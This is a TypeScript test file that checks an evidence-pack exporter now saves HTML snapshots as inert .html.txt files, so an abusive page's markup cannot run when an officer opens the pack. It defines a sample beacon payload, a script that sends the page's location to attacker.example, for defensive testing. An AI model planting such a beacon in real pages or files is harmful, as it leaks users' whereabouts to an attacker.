/**
 * Issue 17, finding 2: an HTML snapshot is the reporter's (or the abusive page's) markup. Saved as
 * `evidence/<sha>.html`, opening it from the unzipped folder ran its script on the officer's machine. Snapshots now
 * leave as inert `.html.txt` files, `npm run verify` still checks their hashes, and packs saved before (with `.html`)
 * still read and verify.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildEvidencePack } from '../../../lib/evidence-pack/export';
import { evidencePath } from '../../../lib/evidence-pack/layout';
import { packForVerify, readEvidencePack } from '../../../lib/evidence-pack/read';
import { sha256Hex } from '../../../lib/hash';
import { verifyReport } from '../../../lib/integrity/verify';
import type { Report } from '../../../lib/schema';
import { sampleReport } from '../../fixtures/report';

const run = promisify(execFile);
const NOW = '2026-11-25T12:00:00.000Z';
/** What the attack put in a snapshot: a script that phones home with where the file was opened. */
export const BEACON_HTML = '<!doctype html><script>new Image().src="https://attacker.example/b?"+location.href</script><p>hate</p>';

async function snapshotReport(): Promise<{ report: Report; html: Uint8Array<ArrayBuffer>; sha256: string }> {
  const html = new TextEncoder().encode(BEACON_HTML) as Uint8Array<ArrayBuffer>;
  const sha256 = await sha256Hex(html);
  const base = sampleReport();
  const report: Report = {
    ...base,
    items: [{ ...base.items[0]!, captureMethod: 'manual', evidence: [{ sha256, mediaType: 'text/html', bytes: html.byteLength, kind: 'html_snapshot' }] }],
  };
  return { report, html, sha256 };
}

/** A name a browser or a file manager would open as a live web page. */
const LIVE = /\.(html?|xhtml|svg|xml|mht(ml)?)$/i;

describe('HTML snapshots leave the extension as inert files', () => {
  it('the layout names a snapshot .html.txt', () => {
    expect(evidencePath('a'.repeat(64), 'text/html')).toBe(`evidence/${'a'.repeat(64)}.html.txt`);
    expect(evidencePath('a'.repeat(64), 'image/png')).toBe(`evidence/${'a'.repeat(64)}.png`);
  });

  it('an evidence pack holds no live web page but its own summary, and reads and verifies', async () => {
    const { report, html, sha256 } = await snapshotReport();
    const zip = await buildEvidencePack(report, [{ sha256, mediaType: 'text/html', bytes: html }], { generatedAt: NOW });
    const files = unzipSync(zip);
    const live = Object.keys(files).filter((name) => LIVE.test(name));
    expect(live).toEqual(['summary.html']);
    expect(files[`evidence/${sha256}.html.txt`]).toEqual(html);
    const reading = await readEvidencePack(zip);
    expect(reading.ok && reading.artefacts.map((artefact) => artefact.sha256)).toEqual([sha256]);
    const pack = packForVerify(zip);
    expect('json' in pack && (await verifyReport(pack.json, pack.source)).ok).toBe(true);
  });

  it('a pack saved before, with evidence/<sha>.html, still reads and verifies', async () => {
    const { report, html, sha256 } = await snapshotReport();
    const old = zipSync({ 'report.json': strToU8(JSON.stringify(report)), [`evidence/${sha256}.html`]: html });
    const reading = await readEvidencePack(old);
    expect(reading.ok).toBe(true);
    const pack = packForVerify(old);
    expect('json' in pack && (await verifyReport(pack.json, pack.source)).ok).toBe(true);
  });

  it('npm run verify checks a .html.txt snapshot and fails it when altered', async () => {
    const { report, html, sha256 } = await snapshotReport();
    const folder = await mkdtemp(join(tmpdir(), 'ohr-inert-'));
    try {
      const good = join(folder, 'good.zip');
      await writeFile(good, await buildEvidencePack(report, [{ sha256, mediaType: 'text/html', bytes: html }], { generatedAt: NOW }));
      const passed = await run('npx', ['tsx', 'scripts/verify.ts', good]);
      expect(passed.stdout).toContain('.html.txt');
      const altered = new Uint8Array(html);
      altered[altered.length - 2] = altered[altered.length - 2]! ^ 1;
      const bad = join(folder, 'bad.zip');
      await writeFile(bad, zipSync({ 'report.json': strToU8(JSON.stringify(report)), [`evidence/${sha256}.html.txt`]: altered }));
      const failed = await run('npx', ['tsx', 'scripts/verify.ts', bad]).catch((error: { code: number }) => error);
      expect('code' in failed && failed.code).toBe(1);
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  }, 60_000);
});
